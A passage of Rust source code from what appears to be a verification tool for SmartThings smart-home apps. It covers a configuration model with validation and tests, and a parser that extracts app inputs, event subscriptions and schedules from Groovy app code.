            assert!(devices.iter().any(|d| d.capability == cap), "missing {cap}");
        }
        // Labels are unique.
        let mut labels: Vec<&str> = devices.iter().map(|d| d.label.as_str()).collect();
        labels.sort();
        labels.dedup();
        assert_eq!(labels.len(), devices.len());
    }

    #[test]
    fn expert_config_binds_one_ac_outlet_only() {
        let devices = standard_household();
        let config = expert_configure(&[thermostat_app()], &devices);
        let app_cfg = config.app("Virtual Thermostat").unwrap();
        // The expert selects a single outlet for the thermostat (§10.1 binds
        // myACOutlet only), never both heater and AC.
        let outlets = app_cfg.devices_for("outlets");
        assert_eq!(outlets.len(), 1, "expert bound {outlets:?}");
        assert_eq!(app_cfg.devices_for("sensor"), vec!["myTempMeas".to_string()]);
        // Settings get sensible defaults.
        assert_eq!(app_cfg.binding("setpoint"), Some(&Binding::Number(75.0)));
        let problems = config.validate(&[thermostat_app()]);
        assert!(problems.is_empty(), "{problems:?}");
    }

    #[test]
    fn misconfiguration_selects_both_outlets() {
        let devices = standard_household();
        let config = misconfigure(&[thermostat_app()], &devices, 42);
        let app_cfg = config.app("Virtual Thermostat").unwrap();
        let outlets = app_cfg.devices_for("outlets");
        // The volunteer mistake: every switch outlet (including the heater AND
        // the AC) ends up bound.
        assert!(outlets.contains(&"myHeaterOutlet".to_string()));
        assert!(outlets.contains(&"myACOutlet".to_string()));
    }

    #[test]
    fn misconfiguration_is_deterministic_per_seed() {
        let devices = standard_household();
        let a = misconfigure(&[thermostat_app()], &devices, 7);
        let b = misconfigure(&[thermostat_app()], &devices, 7);
        let c = misconfigure(&[thermostat_app()], &devices, 8);
        assert_eq!(a, b);
        assert!(a != c || a.app("Virtual Thermostat") == c.app("Virtual Thermostat"));
    }

    #[test]
    fn enumeration_covers_devices_and_enums() {
        let devices = vec![
            DeviceConfig::new("tempA", "temperatureMeasurement", ""),
            DeviceConfig::new("outlet1", "switch", "heater"),
            DeviceConfig::new("outlet2", "switch", "AC"),
        ];
        let configs = enumerate_app_configs(&thermostat_app(), &devices, 100);
        // sensor: 1 choice; outlets: 2 singles + 1 all = 3; setpoint: 1;
        // mode: 2; minutes: 1 → 6 configurations.
        assert_eq!(configs.len(), 6);
        assert!(configs.iter().any(|c| c.devices_for("outlets").len() == 2));
        assert!(configs.iter().any(|c| c.binding("mode") == Some(&Binding::Text("heat".into()))));
    }

    #[test]
    fn enumeration_respects_limit() {
        let devices = standard_household();
        let configs = enumerate_app_configs(&thermostat_app(), &devices, 10);
        assert!(configs.len() <= 10);
        assert!(!configs.is_empty());
    }
}
