//! The configuration model: installed devices, installed apps and per-app
//! input bindings.
//!
//! The paper's Configuration Extractor (§7) crawls the SmartThings management
//! web app to obtain (i) installed devices, (ii) installed smart apps and
//! (iii) configurations of apps, plus the *device association* info supplied
//! by the user (e.g. "this outlet controls the AC").  IotSan-rs represents the
//! same information as a serde-serializable [`SystemConfig`], loaded from a
//! JSON file or generated synthetically (see [`crate::portal`]).

use iotsan_devices::{registry, Device, DeviceId};
use iotsan_ir::{IrApp, SettingKind, Value};
use iotsan_properties::{DeviceRole, PropertySpec};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// A configured (installed) device.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct DeviceConfig {
    /// User-facing label (e.g. `myHeaterOutlet`).
    pub label: String,
    /// Capability name (e.g. `switch`, `motionSensor`).
    pub capability: String,
    /// Device association (what the device actually controls), as a free-form
    /// string parsed by [`DeviceRole::parse`].
    #[serde(default)]
    pub role: String,
}

impl DeviceConfig {
    /// Creates a device configuration.
    pub fn new(
        label: impl Into<String>,
        capability: impl Into<String>,
        role: impl Into<String>,
    ) -> Self {
        DeviceConfig { label: label.into(), capability: capability.into(), role: role.into() }
    }

    /// The parsed device role.
    pub fn parsed_role(&self) -> DeviceRole {
        DeviceRole::parse(&self.role)
    }
}

/// The value bound to an app input.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", content = "value")]
pub enum Binding {
    /// One or more device labels (for `capability.*` inputs).
    Devices(Vec<String>),
    /// A number (for `number`/`decimal` inputs).
    Number(f64),
    /// A string (for `enum`/`text`/`phone`/`time`/`mode` inputs).
    Text(String),
    /// A boolean.
    Bool(bool),
    /// Explicitly left unconfigured (only valid for optional inputs).
    Unset,
}

impl Binding {
    /// Converts the binding into the IR value the interpreter reads when the
    /// app accesses the setting.
    pub fn to_value(&self) -> Value {
        match self {
            Binding::Devices(labels) => {
                Value::List(labels.iter().map(|l| Value::Str(l.clone())).collect())
            }
            Binding::Number(n) => {
                if n.fract() == 0.0 {
                    Value::Int(*n as i64)
                } else {
                    Value::Decimal(*n)
                }
            }
            Binding::Text(s) => Value::Str(s.clone()),
            Binding::Bool(b) => Value::Bool(*b),
            Binding::Unset => Value::Null,
        }
    }

    /// The device labels, when this is a device binding.
    pub fn device_labels(&self) -> &[String] {
        match self {
            Binding::Devices(labels) => labels,
            _ => &[],
        }
    }
}

/// The configuration of one installed app: which devices and values are bound
/// to each `preferences` input.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct AppConfig {
    /// The app's display name (matches `IrApp::name`).
    pub app: String,
    /// Input name → binding.
    pub bindings: BTreeMap<String, Binding>,
}

impl AppConfig {
    /// Creates an empty configuration for `app`.
    pub fn new(app: impl Into<String>) -> Self {
        AppConfig { app: app.into(), bindings: BTreeMap::new() }
    }

    /// Adds a binding (builder style).
    pub fn with(mut self, input: impl Into<String>, binding: Binding) -> Self {
        self.bindings.insert(input.into(), binding);
        self
    }

    /// The binding for an input, if configured.
    pub fn binding(&self, input: &str) -> Option<&Binding> {
        self.bindings.get(input)
    }

    /// The device labels bound to an input (empty when not a device binding).
    pub fn devices_for(&self, input: &str) -> Vec<String> {
        self.binding(input).map(|b| b.device_labels().to_vec()).unwrap_or_default()
    }
}

/// A complete IoT-system configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct SystemConfig {
    /// Installed devices.
    pub devices: Vec<DeviceConfig>,
    /// Installed apps and their bindings.
    pub apps: Vec<AppConfig>,
    /// Phone numbers the user configured as legitimate SMS recipients.
    #[serde(default)]
    pub phone_numbers: Vec<String>,
    /// Apps the user explicitly allowed to use network interfaces (§3: users
    /// dictate whether to allow httpPost-style calls).
    #[serde(default)]
    pub network_allowed_apps: Vec<String>,
    /// The initial location mode.
    #[serde(default = "default_mode")]
    pub initial_mode: String,
    /// User-defined safety properties shipped with the configuration
    /// ([`iotsan_properties::PropertySpec`], the same JSON shape
    /// `PropertySpec::from_json` reads).  The pipeline's verification entry
    /// points register and check these automatically (see
    /// `Pipeline::properties_for`); `Pipeline::with_config_properties`
    /// additionally merges them into the pipeline's own registry for
    /// display/lookup helpers.
    #[serde(default)]
    pub custom_properties: Vec<PropertySpec>,
}

fn default_mode() -> String {
    "Home".to_string()
}

impl SystemConfig {
    /// Creates an empty configuration (mode `Home`).
    pub fn new() -> Self {
        SystemConfig { initial_mode: default_mode(), ..Default::default() }
    }

    /// Adds a device (builder style).
    pub fn with_device(mut self, device: DeviceConfig) -> Self {
        self.devices.push(device);
        self
    }

    /// Adds an app configuration (builder style).
    pub fn with_app(mut self, app: AppConfig) -> Self {
        self.apps.push(app);
        self
    }

    /// Adds a user-defined safety property (builder style).
    pub fn with_custom_property(mut self, spec: PropertySpec) -> Self {
        self.custom_properties.push(spec);
        self
    }

    /// Looks up a device by label.
    pub fn device(&self, label: &str) -> Option<&DeviceConfig> {
        self.devices.iter().find(|d| d.label == label)
    }

    /// Looks up an app configuration by app name.
    pub fn app(&self, name: &str) -> Option<&AppConfig> {
        self.apps.iter().find(|a| a.app == name)
    }

    /// Builds the installed-device table (stable ids assigned by position).
    pub fn device_table(&self) -> Vec<Device> {
        self.devices
            .iter()
            .enumerate()
            .map(|(i, d)| Device::new(DeviceId(i as u32), d.label.clone(), d.capability.clone()))
            .collect()
    }

    /// The [`DeviceId`] of a device label.
    pub fn device_id(&self, label: &str) -> Option<DeviceId> {
        self.devices.iter().position(|d| d.label == label).map(|i| DeviceId(i as u32))
    }

    /// The parsed role of a device label.
    pub fn role_of(&self, label: &str) -> DeviceRole {
        self.device(label).map(|d| d.parsed_role()).unwrap_or_default()
    }

    /// Serializes the configuration to pretty JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("SystemConfig serializes")
    }

    /// Parses a configuration from JSON.
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        serde_json::from_str(json)
    }

    /// Validates the configuration against the apps it references: every
    /// required input must be bound, device bindings must reference installed
    /// devices, and the bound devices must expose the required capability.
    /// Returns a list of human-readable problems (empty when valid).
    pub fn validate(&self, apps: &[IrApp]) -> Vec<String> {
        let mut problems = Vec::new();
        for app_cfg in &self.apps {
            let Some(app) = apps.iter().find(|a| a.name == app_cfg.app) else {
                problems.push(format!("configuration references unknown app '{}'", app_cfg.app));
                continue;
            };
            for input in &app.inputs {
                let binding = app_cfg.binding(&input.name);
                match (&input.kind, binding) {
                    (
                        SettingKind::Device { capability, multiple },
                        Some(Binding::Devices(labels)),
                    ) => {
                        if labels.is_empty() && input.required {
                            problems.push(format!(
                                "{}: required device input '{}' is empty",
                                app.name, input.name
                            ));
                        }
                        if !*multiple && labels.len() > 1 {
                            problems.push(format!(
                                "{}: input '{}' accepts a single device but {} are bound",
                                app.name,
                                input.name,
                                labels.len()
                            ));
                        }
                        for label in labels {
                            match self.device(label) {
                                None => problems.push(format!(
                                    "{}: input '{}' references unknown device '{}'",
                                    app.name, input.name, label
                                )),
                                Some(device) => {
                                    // Capabilities are compared through the device registry:
                                    // unknown switch-like capabilities (outlets, plugs, ...)
                                    // resolve to the `switch` spec, so an outlet may stand in
                                    // for any of them; otherwise specs must match.
                                    let wanted = registry().spec_or_switch(capability).capability;
                                    let actual =
                                        registry().spec_or_switch(&device.capability).capability;
                                    if wanted != actual {
                                        problems.push(format!(
                                            "{}: input '{}' wants capability '{}' but '{}' is a '{}'",
                                            app.name, input.name, capability, label, device.capability
                                        ));
                                    }
                                }
                            }
                        }
                    }
                    (SettingKind::Device { .. }, None) if input.required => {
                        problems.push(format!(
                            "{}: required device input '{}' is unbound",
                            app.name, input.name
                        ));
                    }
                    (_, None) if input.required => {
                        problems.push(format!(
                            "{}: required input '{}' is unbound",
                            app.name, input.name
                        ));
                    }
                    _ => {}
                }
            }
        }
        problems
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_ir::AppInput;

    fn sample_config() -> SystemConfig {
        SystemConfig::new()
            .with_device(DeviceConfig::new("myTempMeas", "temperatureMeasurement", ""))
            .with_device(DeviceConfig::new("myHeaterOutlet", "switch", "heater"))
            .with_device(DeviceConfig::new("myACOutlet", "switch", "AC"))
            .with_app(
                AppConfig::new("Virtual Thermostat")
                    .with("sensor", Binding::Devices(vec!["myTempMeas".into()]))
                    .with("outlets", Binding::Devices(vec!["myACOutlet".into()]))
                    .with("setpoint", Binding::Number(75.0))
                    .with("mode", Binding::Text("cool".into())),
            )
    }

    fn thermostat_app() -> IrApp {
        IrApp {
            name: "Virtual Thermostat".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("sensor", "temperatureMeasurement"),
                AppInput {
                    name: "outlets".into(),
                    kind: SettingKind::Device { capability: "switch".into(), multiple: true },
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "setpoint".into(),
                    kind: SettingKind::Decimal,
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "mode".into(),
                    kind: SettingKind::Enum(vec!["heat".into(), "cool".into()]),
                    title: String::new(),
                    required: true,
                },
            ],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        }
    }

    #[test]
    fn binding_value_conversion() {
        assert_eq!(Binding::Number(75.0).to_value(), Value::Int(75));
        assert_eq!(Binding::Number(75.5).to_value(), Value::Decimal(75.5));
        assert_eq!(Binding::Text("cool".into()).to_value(), Value::Str("cool".into()));
        assert_eq!(Binding::Bool(true).to_value(), Value::Bool(true));
        assert_eq!(Binding::Unset.to_value(), Value::Null);
        assert_eq!(
            Binding::Devices(vec!["a".into()]).to_value(),
            Value::List(vec![Value::Str("a".into())])
        );
    }

    #[test]
    fn lookups_and_device_table() {
        let cfg = sample_config();
        assert_eq!(cfg.devices.len(), 3);
        assert_eq!(cfg.device("myACOutlet").unwrap().capability, "switch");
        assert_eq!(cfg.role_of("myHeaterOutlet"), DeviceRole::Heater);
        assert_eq!(cfg.role_of("myTempMeas"), DeviceRole::Generic);
        let table = cfg.device_table();
        assert_eq!(table.len(), 3);
        assert_eq!(cfg.device_id("myACOutlet"), Some(DeviceId(2)));
        assert_eq!(cfg.device_id("nope"), None);
        assert_eq!(
            cfg.app("Virtual Thermostat").unwrap().devices_for("outlets"),
            vec!["myACOutlet".to_string()]
        );
    }

    #[test]
    fn json_round_trip() {
        let cfg = sample_config();
        let json = cfg.to_json();
        let parsed = SystemConfig::from_json(&json).unwrap();
        assert_eq!(cfg, parsed);
        assert!(json.contains("myHeaterOutlet"));
    }

    #[test]
    fn custom_properties_ride_along_in_config_json() {
        use iotsan_properties::{Expr, PropertySpec};
        let cfg = sample_config().with_custom_property(
            PropertySpec::builder(46, "Heater outlet stays off at night").category("Custom").never(
                Expr::and([Expr::mode_is("Night"), Expr::role_attr("heater", "switch", "on")]),
            ),
        );
        let parsed = SystemConfig::from_json(&cfg.to_json()).unwrap();
        assert_eq!(cfg, parsed);
        assert_eq!(parsed.custom_properties.len(), 1);
        assert_eq!(parsed.custom_properties[0].id, 46);
        // Absent field defaults to empty (older configs keep loading).
        let legacy = SystemConfig::from_json(&sample_config().to_json()).unwrap();
        assert!(legacy.custom_properties.is_empty());
    }

    #[test]
    fn validation_accepts_good_config() {
        let cfg = sample_config();
        let problems = cfg.validate(&[thermostat_app()]);
        assert!(problems.is_empty(), "{problems:?}");
    }

    #[test]
    fn validation_flags_missing_and_wrong_bindings() {
        let app = thermostat_app();
        // Missing required input.
        let cfg = SystemConfig::new()
            .with_device(DeviceConfig::new("myTempMeas", "temperatureMeasurement", ""))
            .with_app(
                AppConfig::new("Virtual Thermostat")
                    .with("sensor", Binding::Devices(vec!["myTempMeas".into()])),
            );
        let problems = cfg.validate(std::slice::from_ref(&app));
        assert!(problems.iter().any(|p| p.contains("outlets")));

        // Wrong capability.
        let cfg = sample_config().with_app(
            AppConfig::new("Virtual Thermostat")
                .with("sensor", Binding::Devices(vec!["myHeaterOutlet".into()]))
                .with("outlets", Binding::Devices(vec!["myACOutlet".into()]))
                .with("setpoint", Binding::Number(75.0))
                .with("mode", Binding::Text("cool".into())),
        );
        let problems = cfg.validate(std::slice::from_ref(&app));
        assert!(problems.iter().any(|p| p.contains("wants capability")));

        // Unknown device.
        let cfg = sample_config().with_app(
            AppConfig::new("Virtual Thermostat")
                .with("sensor", Binding::Devices(vec!["ghost".into()]))
                .with("outlets", Binding::Devices(vec!["myACOutlet".into()]))
                .with("setpoint", Binding::Number(75.0))
                .with("mode", Binding::Text("cool".into())),
        );
        assert!(cfg.validate(&[app]).iter().any(|p| p.contains("unknown device")));
    }

    #[test]
    fn switch_device_stands_in_for_switch_like_capabilities() {
        // "outlet" is not a registered capability; it resolves to the switch
        // spec, so a switch device satisfies it (and vice versa).
        let app = IrApp {
            name: "Outlet App".into(),
            description: String::new(),
            inputs: vec![AppInput::device("outlet1", "outlet")],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let cfg =
            SystemConfig::new().with_device(DeviceConfig::new("myOutlet", "switch", "")).with_app(
                AppConfig::new("Outlet App")
                    .with("outlet1", Binding::Devices(vec!["myOutlet".into()])),
            );
        let problems = cfg.validate(std::slice::from_ref(&app));
        assert!(problems.is_empty(), "{problems:?}");

        // A genuinely different capability is still rejected.
        let cfg =
            SystemConfig::new().with_device(DeviceConfig::new("myLock", "lock", "")).with_app(
                AppConfig::new("Outlet App")
                    .with("outlet1", Binding::Devices(vec!["myLock".into()])),
            );
        let problems = cfg.validate(std::slice::from_ref(&app));
        assert!(problems.iter().any(|p| p.contains("wants capability")), "{problems:?}");
    }

    #[test]
    fn validation_flags_unknown_app() {
        let cfg = SystemConfig::new().with_app(AppConfig::new("Ghost App"));
        let problems = cfg.validate(&[]);
        assert_eq!(problems.len(), 1);
        assert!(problems[0].contains("unknown app"));
    }

    #[test]
    fn single_device_input_rejects_multiple_bindings() {
        let app = IrApp {
            name: "Single".into(),
            description: String::new(),
            inputs: vec![AppInput::device("lock1", "lock")],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        };
        let cfg = SystemConfig::new()
            .with_device(DeviceConfig::new("a", "lock", ""))
            .with_device(DeviceConfig::new("b", "lock", ""))
            .with_app(
                AppConfig::new("Single")
                    .with("lock1", Binding::Devices(vec!["a".into(), "b".into()])),
            );
        let problems = cfg.validate(&[app]);
        assert!(problems.iter().any(|p| p.contains("single device")));
    }
}
