//! SmartThings DSL extraction.
//!
//! SmartThings extends Groovy with app-level declarations that are not part of
//! the base language: `definition(...)` metadata, `preferences { section {
//! input ... } }` configuration blocks, `subscribe`/`schedule`/`runIn`
//! registration calls and implicit objects (`location`, `state`, `settings`,
//! `app`).  This module walks the parsed AST and recovers that structure, which
//! is what the Translator (§6 of the paper) calls the *SmartThings Handler*.

use crate::ast::{walk_expr, walk_stmt_exprs, Arg, Expr, Item, MethodDecl, Script, Stmt};
use crate::error::{ParseError, Result};
use crate::parser::parse;
use crate::span::Span;
use std::collections::BTreeSet;

/// Metadata from the `definition(...)` call.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct AppMetadata {
    /// App name, e.g. `"Virtual Thermostat"`.
    pub name: String,
    /// Namespace (vendor).
    pub namespace: String,
    /// Author string.
    pub author: String,
    /// Free-form description shown to the user at install time.
    pub description: String,
    /// Category string, if present.
    pub category: String,
}

/// The declared kind of a `preferences` input.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum InputKind {
    /// A device selection bound to a capability, e.g.
    /// `capability.temperatureMeasurement`.
    Capability(String),
    /// `"number"` — integer value.
    Number,
    /// `"decimal"` — decimal value.
    Decimal,
    /// `"bool"` — boolean toggle.
    Bool,
    /// `"text"` — free text.
    Text,
    /// `"enum"` — one of a fixed set of options.
    Enum(Vec<String>),
    /// `"time"` — time of day.
    Time,
    /// `"phone"` — phone number for SMS.
    Phone,
    /// `"contact"` — contact-book recipients.
    Contact,
    /// `"mode"` — a location mode selection.
    Mode,
    /// `"hub"` or other device-less kinds we do not interpret further.
    Other(String),
}

impl InputKind {
    /// Parses the second positional argument of an `input` declaration.
    pub fn from_decl(kind: &str, options: Option<Vec<String>>) -> InputKind {
        if let Some(cap) = kind.strip_prefix("capability.") {
            return InputKind::Capability(cap.to_string());
        }
        match kind {
            "number" => InputKind::Number,
            "decimal" => InputKind::Decimal,
            "bool" | "boolean" => InputKind::Bool,
            "text" | "string" => InputKind::Text,
            "enum" => InputKind::Enum(options.unwrap_or_default()),
            "time" => InputKind::Time,
            "phone" => InputKind::Phone,
            "contact" => InputKind::Contact,
            "mode" => InputKind::Mode,
            other => InputKind::Other(other.to_string()),
        }
    }

    /// True when this input selects one or more devices.
    pub fn is_device(&self) -> bool {
        matches!(self, InputKind::Capability(_))
    }

    /// The capability name, when this is a device input.
    pub fn capability(&self) -> Option<&str> {
        match self {
            InputKind::Capability(c) => Some(c),
            _ => None,
        }
    }
}

/// A single `input` declaration from the `preferences` block (Figure 1 of the
/// paper shows seven of these for Virtual Thermostat).
#[derive(Debug, Clone, PartialEq)]
pub struct InputDecl {
    /// The settings variable name this input defines (a global of the app).
    pub name: String,
    /// What kind of value the user supplies.
    pub kind: InputKind,
    /// The title shown in the companion app.
    pub title: String,
    /// Whether multiple devices may be selected.
    pub multiple: bool,
    /// Whether the input must be configured (defaults to true).
    pub required: bool,
    /// Source span of the declaration.
    pub span: Span,
}

/// The source of events for a subscription.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum SubscriptionSource {
    /// A device input variable declared in `preferences`.
    DeviceInput(String),
    /// The implicit `location` object (mode changes, sunrise/sunset).
    Location,
    /// The implicit `app` object (app touch events).
    App,
}

/// A `subscribe(source, "attribute.value", handler)` registration.
#[derive(Debug, Clone, PartialEq)]
pub struct Subscription {
    /// Where events come from.
    pub source: SubscriptionSource,
    /// The attribute of interest, e.g. `motion`, `contact`, `mode`, `touch`.
    pub attribute: String,
    /// A specific event value (e.g. `open`), or `None` for any value.
    pub value: Option<String>,
    /// The name of the handler method invoked when the event fires.
    pub handler: String,
    /// Source span of the `subscribe` call.
    pub span: Span,
}

/// A scheduled callback: `schedule(cron, handler)`, `runIn(seconds, handler)`
/// or one of the `runEveryNMinutes(handler)` helpers.
#[derive(Debug, Clone, PartialEq)]
pub struct ScheduleDecl {
    /// The handler method name.
    pub handler: String,
    /// Delay in seconds for `runIn`, or `None` for cron-style schedules.
    pub delay_seconds: Option<i64>,
    /// The raw cron expression for `schedule`, if any.
    pub cron: Option<String>,
    /// Source span.
    pub span: Span,
}

/// A fully-extracted SmartThings smart app: parsed AST plus the DSL-level
/// structure needed by the dependency analyzer and the translator.
#[derive(Debug, Clone, PartialEq)]
pub struct SmartApp {
    /// App metadata from `definition(...)`.
    pub metadata: AppMetadata,
    /// Inputs declared in `preferences`.
    pub inputs: Vec<InputDecl>,
    /// Event subscriptions registered in lifecycle methods.
    pub subscriptions: Vec<Subscription>,
    /// Scheduled callbacks.
    pub schedules: Vec<ScheduleDecl>,
    /// The underlying parsed script.
    pub script: Script,
}

impl SmartApp {
    /// Parses `source` and extracts the SmartThings structure.
    pub fn parse(source: &str) -> Result<SmartApp> {
        let script = parse(source)?;
        extract(script)
    }

    /// The app's display name (falls back to `"<unnamed app>"`).
    pub fn name(&self) -> &str {
        if self.metadata.name.is_empty() {
            "<unnamed app>"
        } else {
            &self.metadata.name
        }
    }

    /// Finds a declared input by settings-variable name.
    pub fn input(&self, name: &str) -> Option<&InputDecl> {
        self.inputs.iter().find(|i| i.name == name)
    }

    /// All device-typed inputs (the devices the user must configure).
    pub fn device_inputs(&self) -> impl Iterator<Item = &InputDecl> {
        self.inputs.iter().filter(|i| i.kind.is_device())
    }

    /// Names of all handler methods referenced by subscriptions or schedules.
    pub fn handler_names(&self) -> BTreeSet<String> {
        let mut names: BTreeSet<String> =
            self.subscriptions.iter().map(|s| s.handler.clone()).collect();
        names.extend(self.schedules.iter().map(|s| s.handler.clone()));
        names
    }

    /// Looks up the method body of a handler.
    pub fn handler(&self, name: &str) -> Option<&MethodDecl> {
        self.script.method(name)
    }
}

/// Extracts SmartThings DSL structure from a parsed script.
pub fn extract(script: Script) -> Result<SmartApp> {
    let mut metadata = AppMetadata::default();
    let mut inputs = Vec::new();

    for item in &script.items {
        let Item::Stmt(Stmt::Expr(expr)) = item else { continue };
        if let Expr::MethodCall { name, args, closure, .. } = expr {
            match name.as_str() {
                "definition" => metadata = extract_definition(args),
                "preferences" => {
                    if let Some(body) = closure.as_deref() {
                        collect_inputs(body, &mut inputs)?;
                    }
                }
                _ => {}
            }
        }
    }

    // Subscriptions and schedules can be registered anywhere, but by
    // convention live in installed()/updated()/initialize().  We scan every
    // method so that apps which subscribe from helpers are still covered.
    let mut subscriptions = Vec::new();
    let mut schedules = Vec::new();
    for method in script.methods() {
        for stmt in &method.body.stmts {
            collect_registrations(stmt, &mut subscriptions, &mut schedules);
        }
    }

    Ok(SmartApp { metadata, inputs, subscriptions, schedules, script })
}

fn extract_definition(args: &[Arg]) -> AppMetadata {
    let mut md = AppMetadata::default();
    for arg in args {
        if let Arg::Named(key, value) = arg {
            let text = value.as_str().unwrap_or("").to_string();
            match key.as_str() {
                "name" => md.name = text,
                "namespace" => md.namespace = text,
                "author" => md.author = text,
                "description" => md.description = text,
                "category" => md.category = text,
                _ => {}
            }
        }
    }
    md
}

/// Recursively collects `input` declarations from a `preferences` closure,
/// descending through `section(...) { ... }` and `page(...) { ... }` nesting.
fn collect_inputs(expr: &Expr, out: &mut Vec<InputDecl>) -> Result<()> {
    let Expr::Closure { body, .. } = expr else { return Ok(()) };
    for stmt in &body.stmts {
        let Stmt::Expr(Expr::MethodCall { name, args, closure, span, .. }) = stmt else {
            continue;
        };
        match name.as_str() {
            "input" => out.push(parse_input_decl(args, *span)?),
            "section" | "page" | "dynamicPage" => {
                if let Some(inner) = closure.as_deref() {
                    collect_inputs(inner, out)?;
                }
            }
            _ => {}
        }
    }
    Ok(())
}

fn parse_input_decl(args: &[Arg], span: Span) -> Result<InputDecl> {
    let positional: Vec<&Expr> = args
        .iter()
        .filter_map(|a| match a {
            Arg::Positional(e) => Some(e),
            Arg::Named(_, _) => None,
        })
        .collect();
    let name = positional
        .first()
        .and_then(|e| e.as_str())
        .ok_or_else(|| ParseError::new("input declaration missing a name", span))?
        .to_string();
    let kind_str = positional
        .get(1)
        .and_then(|e| e.as_str())
        .ok_or_else(|| ParseError::new("input declaration missing a kind", span))?;

    let mut title = String::new();
    let mut multiple = false;
    let mut required = true;
    let mut options: Option<Vec<String>> = None;
    for arg in args {
        if let Arg::Named(key, value) = arg {
            match key.as_str() {
                "title" => title = value.as_str().unwrap_or("").to_string(),
                "multiple" => multiple = matches!(value, Expr::Bool(true, _)),
                "required" => required = !matches!(value, Expr::Bool(false, _)),
                "options" => {
                    if let Expr::ListLit(items, _) = value {
                        options = Some(
                            items.iter().filter_map(|e| e.as_str().map(str::to_string)).collect(),
                        );
                    }
                }
                _ => {}
            }
        }
    }
    Ok(InputDecl {
        name,
        kind: InputKind::from_decl(kind_str, options),
        title,
        multiple,
        required,
        span,
    })
}

/// Collects `subscribe`/`schedule`/`runIn`/`runEvery*` calls reachable from a
/// statement, including calls nested in conditionals and closures.
fn collect_registrations(
    stmt: &Stmt,
    subs: &mut Vec<Subscription>,
    scheds: &mut Vec<ScheduleDecl>,
) {
    walk_stmt_exprs(stmt, &mut |expr| {
        let Expr::MethodCall { object, name, args, span, .. } = expr else { return };
        if object.is_some() {
            return;
        }
        match name.as_str() {
            "subscribe" => {
                if let Some(sub) = parse_subscribe(args, *span) {
                    subs.push(sub);
                }
            }
            "schedule" => {
                let cron = args.first().and_then(|a| a.expr().as_str()).map(str::to_string);
                if let Some(handler) = handler_name(args.get(1)) {
                    scheds.push(ScheduleDecl { handler, delay_seconds: None, cron, span: *span });
                }
            }
            "runIn" => {
                let delay = match args.first().map(|a| a.expr()) {
                    Some(Expr::Int(v, _)) => Some(*v),
                    _ => None,
                };
                if let Some(handler) = handler_name(args.get(1)) {
                    scheds.push(ScheduleDecl {
                        handler,
                        delay_seconds: delay,
                        cron: None,
                        span: *span,
                    });
                }
            }
            "runOnce" => {
                if let Some(handler) = handler_name(args.get(1)) {
                    scheds.push(ScheduleDecl {
                        handler,
                        delay_seconds: None,
                        cron: None,
                        span: *span,
                    });
                }
            }
            n if n.starts_with("runEvery") => {
                if let Some(handler) = handler_name(args.first()) {
                    let minutes = n
                        .trim_start_matches("runEvery")
                        .trim_end_matches("Minutes")
                        .trim_end_matches("Minute")
                        .trim_end_matches("Hours")
                        .trim_end_matches("Hour")
                        .parse::<i64>()
                        .unwrap_or(5);
                    scheds.push(ScheduleDecl {
                        handler,
                        delay_seconds: Some(minutes * 60),
                        cron: None,
                        span: *span,
                    });
                }
            }
            _ => {}
        }
    });
}

fn parse_subscribe(args: &[Arg], span: Span) -> Option<Subscription> {
    let source_expr = args.first()?.expr();
    let source = match source_expr {
        Expr::Var(name, _) if name == "location" => SubscriptionSource::Location,
        Expr::Var(name, _) if name == "app" => SubscriptionSource::App,
        Expr::Var(name, _) => SubscriptionSource::DeviceInput(name.clone()),
        Expr::Property { object, name, .. } => {
            // `settings.motionSensor` style references.
            if object.as_var() == Some("settings") {
                SubscriptionSource::DeviceInput(name.clone())
            } else if name == "mode" && object.as_var() == Some("location") {
                SubscriptionSource::Location
            } else {
                return None;
            }
        }
        _ => return None,
    };
    let event_spec = args.get(1)?.expr().as_str()?.to_string();
    let (attribute, value) = match event_spec.split_once('.') {
        Some((attr, val)) => (attr.to_string(), Some(val.to_string())),
        None => (event_spec, None),
    };
    let handler = handler_name(args.get(2))?;
    Some(Subscription { source, attribute, value, handler, span })
}

/// A handler reference may be a bare identifier, a string literal, or a
/// GString-free method pointer; anything else is rejected.
fn handler_name(arg: Option<&Arg>) -> Option<String> {
    match arg?.expr() {
        Expr::Var(name, _) => Some(name.clone()),
        Expr::Str(name, _) => Some(name.clone()),
        Expr::Property { name, .. } => Some(name.clone()),
        _ => None,
    }
}

/// Returns every method-call name (with no receiver) appearing in a method
/// body.  Used by the translator to detect SmartThings API usage such as
/// `sendSms`, `httpPost`, `unsubscribe` and `sendEvent`.
pub fn api_calls(method: &MethodDecl) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for stmt in &method.body.stmts {
        walk_stmt_exprs(stmt, &mut |e| {
            walk_expr(e, &mut |e| {
                if let Expr::MethodCall { object: None, name, .. } = e {
                    out.insert(name.clone());
                }
            });
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"
definition(
    name: "Virtual Thermostat",
    namespace: "smartthings",
    author: "SmartThings",
    description: "Control a space heater or window air conditioner in conjunction with any temperature sensor, like a SmartSense Multi."
)

preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
